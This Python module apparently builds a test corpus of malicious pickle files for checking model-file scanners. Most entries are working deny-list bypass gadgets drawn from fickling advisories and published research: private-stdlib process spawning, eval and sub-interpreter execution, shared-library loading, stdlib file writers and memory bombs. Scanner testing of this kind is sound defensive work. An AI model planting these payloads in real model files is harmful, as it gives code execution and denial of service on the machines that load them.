"""Published fickling advisories, private-stdlib modules and stdlib gadget classes from "The Art of Hide and
Seek" (file writers, eval of annotations, import side effects, memory bombs). Registered on import; see
``build_advisories``."""

from __future__ import annotations

import struct

from advisory_core import (
    FK,
    Advisory,
    adv,
    advisory,
)
from build_malicious import (
    PY_SRC,
    REL_MARKER,
    SHELL_CMD,
    Asm,
    call_pickle,
)


@advisory
def fk_subinterpreter_run_string() -> list[Advisory]:
    # fickling GHSA-6ggj-6f2q-f7mx (2026-07): _interpreters.create() + run_string(id, src) execute source
    # in a sub-interpreter of the loading process; the PoC routes the call through BUILD/__setstate__.
    out: list[Advisory] = []
    for mod, when in (("_interpreters", "3.13+"), ("_xxsubinterpreters", "3.8-3.12")):
        a = Asm(4)
        a.glob(mod, "run_string").mark().glob(mod, "create").empty_tuple().reduce().val(PY_SRC).tuple_().reduce()
        out += adv(
            f"fk_subinterpreter_{mod.strip('_')}",
            FK + "6ggj-6f2q-f7mx",
            "2026-07",
            a.done(),
            mod,
            f"{mod}.run_string(create(), src) ({when}): exec in a sub-interpreter.",
            live="pickle",
        )
    return out


@advisory
def fk_ctypes_private_dlopen() -> list[Advisory]:
    # fickling PR #302 "block private stdlib imports" (2026-07): _ctypes.dlopen loads a shared library
    # (its constructors run) without naming the public ctypes module.
    return adv(
        "fk_ctypes_private_dlopen",
        "fickling PR #302 (_ctypes)",
        "2026-07",
        call_pickle("_ctypes", "dlopen", "/tmp/mlvet_marker.so", 2),
        "_ctypes",
        "Private ctypes module: dlopen of an attacker-placed library.",
    )


@advisory
def fk_frozen_importlib_external_loader() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS additions (2026-01, GHSA-q5qq-mvfm-j35x class): importlib's frozen
    # implementation modules. SourceFileLoader(name, path).load_module() executes a local .py file.
    a = Asm(4)
    a.glob("_frozen_importlib_external", "SourceFileLoader.load_module").mark()
    a.glob("_frozen_importlib_external", "SourceFileLoader").val("mlvet_marker").val("/tmp/mlvet_marker.py")
    a.tuple2().reduce().tuple_().reduce()
    return adv(
        "fk_frozen_importlib_external_loader",
        FK + "q5qq-mvfm-j35x",
        "2026-01",
        a.done(),
        "_frozen_importlib_external",
        "Frozen importlib loader executing a Python file from disk.",
    )


@advisory
def fk_frozen_importlib_gcd_import() -> list[Advisory]:
    # Same fickling class: _frozen_importlib._gcd_import imports any module (import side effects run).
    return adv(
        "fk_frozen_importlib_gcd_import",
        FK + "q5qq-mvfm-j35x",
        "2026-01",
        call_pickle("_frozen_importlib", "_gcd_import", "antigravity"),
        "_frozen_importlib",
        "Import of an arbitrary module through the frozen importlib bootstrap.",
    )


@advisory
def fk_imp_private() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS: "_imp" (2026-01). _imp.init_frozen / create_dynamic load modules.
    return adv(
        "fk_imp_init_frozen",
        "fickling UNSAFE_IMPORTS (_imp)",
        "2026-01",
        call_pickle("_imp", "init_frozen", "__hello__"),
        "_imp",
        "Private import machinery: creates and executes a frozen module.",
    )


@advisory
def fk_winapi_create_process() -> list[Advisory]:
    # Private-stdlib class (fickling PR #302, 2026-07): _winapi.CreateProcess starts a process on Windows.
    data = call_pickle("_winapi", "CreateProcess", None, "cmd /c " + SHELL_CMD, None, None, 0, 0, None, None, None)
    return adv(
        "fk_winapi_create_process",
        "fickling PR #302 (_winapi)",
        "2026-07",
        data,
        "_winapi",
        "Windows process creation through the private _winapi module.",
    )


@advisory
def fk_pexpect_run() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS "pexpect" (2026-01) and ISSUE-9: pexpect.run(cmd) spawns a command.
    out = adv(
        "fk_pexpect_run",
        "fickling UNSAFE_IMPORTS (pexpect)",
        "2026-01",
        call_pickle("pexpect", "run", "sh -c '" + SHELL_CMD + "'"),
        "pexpect",
        "pexpect.run spawns the command in a pty.",
        live="pickle",
    )
    out += adv(
        "fk_pexpect_popen_spawn",
        "fickling UNSAFE_IMPORTS (pexpect)",
        "2026-01",
        call_pickle("pexpect.popen_spawn", "PopenSpawn", ["sh", "-c", SHELL_CMD]),
        "pexpect",
        "PopenSpawn starts a subprocess at construction.",
    )
    return out


@advisory
def fk_sqlite3_private() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS "_sqlite3" (2026-01): the C module behind sqlite3 creates database files.
    return adv(
        "fk_sqlite3_private",
        "fickling UNSAFE_IMPORTS (_sqlite3)",
        "2026-01",
        call_pickle("_sqlite3", "connect", REL_MARKER),
        "_sqlite3",
        "Private sqlite3 module: connect() creates a file at any path.",
        live="pickle",
    )


@advisory
def fk_io_private_open() -> list[Advisory]:
    # fickling analysis.py UNSAFE_IMPORTS "_io.open" (2026-01): truncates any file opened for writing.
    return adv(
        "fk_io_private_open",
        "fickling UNSAFE_IMPORTS (_io.open)",
        "2026-01",
        call_pickle("_io", "open", REL_MARKER, "w"),
        "io.open",
        "_io.open(path, 'w') creates or truncates a file.",
        live="pickle",
    )


@advisory
def fk_syslog() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS "syslog" (2026-01): writes attacker text to the system log.
    return adv(
        "fk_syslog",
        "fickling UNSAFE_IMPORTS (syslog)",
        "2026-01",
        call_pickle("syslog", "syslog", "mlvet-test"),
        "syslog",
        "Log injection from a model file.",
    )


@advisory
def fk_unittest_mock_patch() -> list[Advisory]:
    # fickling UNSAFE_IMPORTS "unittest" (2026-01): unittest.mock._importer imports any dotted module.
    return adv(
        "fk_unittest_mock_importer",
        "fickling UNSAFE_IMPORTS (unittest)",
        "2026-01",
        call_pickle("unittest.mock", "_importer", "os"),
        "unittest",
        "mock's importer (Python <= 3.10) walks a dotted path with __import__.",
    )


@advisory
def builtins_loader_load_module() -> list[Advisory]:
    # Hide-and-Seek class "attribute walk through builtins" (2025-08): builtins.__loader__ is
    # BuiltinImporter; its load_module imports a built-in module (posix) without naming importlib.
    # Dotted names resolve only in protocol 4+ (find_class walks attributes for proto >= 4).
    a = Asm(4).glob("builtins", "__loader__.load_module").val("posix").tuple1().reduce()
    return adv(
        "hs_builtins_loader_load_module",
        "arXiv:2508.19774 attribute walks",
        "2025-08",
        a.done(),
        "builtins",
        "builtins.__loader__.load_module('posix') returns the os implementation module.",
    )


@advisory
def reconstructor_foreign_init() -> list[Advisory]:
    # PickleBall (CCS 2025) "allowed callable with attacker-chosen class" class: copyreg._reconstructor(cls,
    # base, state) calls base.__new__(cls, state) then base.__init__(obj, state): an allow-listed helper runs
    # the __init__ of a class that only appears as an *argument* (never REDUCEd itself).
    a = Asm(2)
    a.glob("copyreg", "_reconstructor").mark().glob("subprocess", "Popen").glob("subprocess", "Popen")
    a.val(["sh", "-c", SHELL_CMD]).tuple_().reduce()
    return adv(
        "pickleball_reconstructor_popen_init",
        "PickleBall (CCS 2025) reconstructor abuse",
        "2025-10",
        a.done(),
        "subprocess.Popen",
        "_reconstructor runs Popen.__init__(obj, argv): the process starts.",
        live="pickle",
    )


@advisory
def gzip_bz2_lzma_open_write() -> list[Advisory]:
    # Hide-and-Seek (arXiv:2508.19774, 2025-08) file-system gadget class: compression modules' open()
    # truncate any path, like the builtins.open that deny-lists name.
    out: list[Advisory] = []
    for mod in ("gzip", "bz2", "lzma"):
        out += adv(
            f"hs_{mod}_open_write",
            "arXiv:2508.19774 file-write gadgets",
            "2025-08",
            call_pickle(mod, "open", REL_MARKER, "wb"),
            f"{mod}.open",
            f"{mod}.open(path, 'wb') creates or truncates a file.",
            live="pickle" if mod == "gzip" else None,
        )
    return out


@advisory
def typing_get_type_hints_eval() -> list[Advisory]:
    # arXiv:2508.19774 stdlib eval gadgets (2025-08): typing.get_type_hints evaluates string annotations of
    # any object; the object is an allow-listed SimpleNamespace carrying __annotations__.
    a = Asm(4)
    a.glob("typing", "get_type_hints").mark()
    a.glob("types", "SimpleNamespace").empty_tuple().reduce().val({"__annotations__": {"a": PY_SRC}}).build()
    a.tuple_().reduce()
    return adv(
        "hs_typing_get_type_hints_eval",
        "arXiv:2508.19774 stdlib eval gadgets",
        "2025-08",
        a.done(),
        "typing",
        "get_type_hints(obj) eval()s obj.__annotations__ strings.",
        live="pickle",
    )


@advisory
def builtins_exit_dos() -> list[Advisory]:
    # picklescan malicious9 class (sys.exit) spelled through the site builtin: builtins.exit(3) raises
    # SystemExit in the loader.
    return adv(
        "builtins_exit_dos",
        "picklescan malicious9 class (exit)",
        "2023-03",
        call_pickle("builtins", "exit", 3),
        "builtins.exit",
        "site's exit() builtin terminates the loading process.",
    )


@advisory
def issue9_memo_index_bomb() -> list[Advisory]:
    # ISSUE-9 (memo expansion): LONG_BINPUT with index 0x7fffffff makes CPython's C unpickler grow its memo
    # table to ~2^32 slots (32 GiB) and clear them: a 12-byte file that exhausts the loader's memory.
    data = b"\x80\x02N" + b"r" + struct.pack("<I", 0x7FFFFFFF) + b"."
    return adv(
        "issue9_memo_index_bomb",
        "ISSUE-9 (memo expansion bomb)",
        "2026-11",
        data,
        None,
        "One LONG_BINPUT with a huge index: the memo table is resized to it.",
    )


@advisory
def issue9_safe_callable_memory_bomb() -> list[Advisory]:
    # ISSUE-9 / fickling "pickle bomb" class: only allow-listed callables, list(range(10**10)) materialises
    # ten billion ints at load (memory exhaustion without any dangerous import).
    a = Asm(2)
    a.glob("builtins", "list").mark().glob("builtins", "range").val(10**10).tuple1().reduce().tuple_().reduce()
    return adv(
        "issue9_list_range_bomb",
        "ISSUE-9 (safe-callable memory bomb)",
        "2026-11",
        a.done(),
        None,
        "list(range(10**10)) using only safe-tier builtins.",
    )


@advisory
def cython_inline() -> list[Advisory]:
    # modelaudit / fickling "compile" class (2025): Cython.Build.Inline.cython_inline compiles and runs code.
    return adv(
        "cython_inline_compile_run",
        "modelaudit suspicious symbols (compile)",
        "2025-06",
        call_pickle("Cython.Build.Inline", "cython_inline", PY_SRC),
        "Cython",
        "Compiles the source to a C extension, imports and runs it.",
    )


@advisory
def cffi_backend_load_library() -> list[Advisory]:
    # modelaudit suspicious symbols "ffi.dlopen" (2025): _cffi_backend.load_library is cffi's dlopen.
    return adv(
        "cffi_backend_load_library",
        "modelaudit suspicious symbols (ffi.dlopen)",
        "2025-06",
        call_pickle("_cffi_backend", "load_library", "/tmp/mlvet_marker.so"),
        "_cffi_backend",
        "Private cffi module: loads a shared library.",
    )


@advisory
def fk_private_bootsubprocess() -> list[Advisory]:
    # fickling PR #302 "block private stdlib imports" (2026-07) class: CPython's build-time helper
    # _bootsubprocess.Popen(cmd).wait() forks and execv()s cmd without the subprocess module.
    a = Asm(4)
    a.glob("_bootsubprocess", "Popen.wait").mark()
    a.glob("_bootsubprocess", "Popen").val(["/bin/sh", "-c", SHELL_CMD]).tuple1().reduce()
    a.tuple_().reduce()
    return adv(
        "fk_private_bootsubprocess",
        "fickling PR #302 (private stdlib modules)",
        "2026-07",
        a.done(),
        "_bootsubprocess",
        "Private stdlib Popen: fork + execv of an argv.",
        live="pickle",
    )


@advisory
def fk_private_testcapi_subinterp() -> list[Advisory]:
    # Same class: _testcapi.run_in_subinterp(src) executes source in a sub-interpreter (present in most
    # CPython builds, e.g. pyenv and the official images).
    return adv(
        "fk_private_testcapi_subinterp",
        "fickling PR #302 (private stdlib modules)",
        "2026-07",
        call_pickle("_testcapi", "run_in_subinterp", PY_SRC),
        "_testcapi",
        "CPython test module that runs source code.",
        live="pickle",
    )


@advisory
def fk_private_dbm_shm() -> list[Advisory]:
    # Same class: private dbm backends and POSIX shared memory create files outside the public modules.
    out = adv(
        "fk_private_gdbm_open",
        "fickling PR #302 (private stdlib modules)",
        "2026-07",
        call_pickle("_gdbm", "open", REL_MARKER, "c"),
        "_gdbm",
        "_gdbm.open(path, 'c') creates a database file.",
    )
    out += adv(
        "fk_private_posixshmem_open",
        "fickling PR #302 (private stdlib modules)",
        "2026-07",
        call_pickle("_posixshmem", "shm_open", "/mlvet_marker", 0o102, 0o600),
        "_posixshmem",
        "shm_open(name, O_CREAT|O_RDWR) creates a shared-memory file.",
    )
    return out


@advisory
def hs_antigravity_import_side_effect() -> list[Advisory]:
    # arXiv:2508.19774 (2025-08) "import-time side effects": a GLOBAL alone imports its module; importing
    # `antigravity` calls webbrowser.open (a browser process and a network request) with nothing called.
    a = Asm(2).glob("antigravity", "geohash").pop().val({"w": 1})
    return adv(
        "hs_antigravity_import_only",
        "arXiv:2508.19774 import side effects",
        "2025-08",
        a.done(),
        "antigravity",
        "Import-only reference whose import launches a browser.",
    )


@advisory
def hs_stdlib_file_writers() -> list[Advisory]:
    # arXiv:2508.19774 file-write gadgets (2025-08), less common stdlib writers that deny-lists skip.
    out = adv(
        "hs_wave_open_write",
        "arXiv:2508.19774 file-write gadgets",
        "2025-08",
        call_pickle("wave", "open", REL_MARKER, "wb"),
        "wave.open",
        "wave.open(path, 'wb') creates or truncates a file.",
        live="pickle",
    )
    a = Asm(4)
    a.glob("xml.etree.ElementTree", "ElementTree.write").mark()
    a.glob("xml.etree.ElementTree", "ElementTree").mark()
    a.glob("xml.etree.ElementTree", "Element").val("x").tuple1().reduce().tuple_().reduce()
    a.val(REL_MARKER).tuple_().reduce()
    out += adv(
        "hs_elementtree_write",
        "arXiv:2508.19774 file-write gadgets",
        "2025-08",
        a.done(),
        "ElementTree.write",
        "ElementTree(Element('x')).write(path) writes a file.",
        live="pickle",
    )
    out += adv(
        "hs_zipapp_create_archive",
        "arXiv:2508.19774 file-write gadgets",
        "2025-08",
        call_pickle("zipapp", "create_archive", "/etc/ssl", REL_MARKER, None, "os:getcwd"),
        "zipapp",
        "zipapp.create_archive(source, target) writes a zip at target.",
    )
    out += adv(
        "hs_readline_write_history",
        "arXiv:2508.19774 file-write gadgets",
        "2025-08",
        call_pickle("readline", "write_history_file", REL_MARKER),
        "readline",
        "readline.write_history_file(path) writes a file.",
    )
    out += adv(
        "hs_smtpd_listener",
        "arXiv:2508.19774 network gadgets",
        "2025-08",
        call_pickle("smtpd", "DebuggingServer", ("127.0.0.1", 0), None),
        "smtpd",
        "Binds a listening socket in the loader (Python <= 3.11).",
    )
    return out
